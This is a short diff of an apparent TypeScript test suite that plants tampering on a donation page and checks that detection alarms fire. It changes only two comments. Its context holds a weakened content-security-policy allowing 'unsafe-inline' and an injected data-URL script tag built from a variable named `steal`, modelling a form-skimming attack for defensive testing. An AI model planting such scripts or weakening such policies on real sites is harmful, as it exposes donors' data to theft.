@@ -120,7 +120,7 @@ const weakened = { "content-security-policy": "script-src 'self' 'unsafe-inline'
 const formScript = inventory.find((address) => address.includes("/donation-page-"))!;
 const own = JSON.stringify(steal).slice(1, -1);
 
-/** `ran`: with the policy gone, only the alarm is left. */
+/** `ran`: without the policy the code runs, and only the alarm notices. */
 const plants: Record<string, { plant: Plant; alarm: RegExp; seen: Record<string, boolean> }> = {
   "an extra script": {
     plant: { path: "/donation", change: planted(`<script src="data:text/javascript,${own}"></script>`) },
@@ -149,7 +149,7 @@ const plants: Record<string, { plant: Plant; alarm: RegExp; seen: Record<string,
   },
 };
 
-/** The one that tells most: with the policy gone, the code runs and the alarm alone is left. */
+/** The most important case: without the policy the code runs, and only the alarm notices. */
 const short = ["a weakened policy"];
 
 for (const [name, { plant, alarm, seen }] of Object.entries(plants)) {
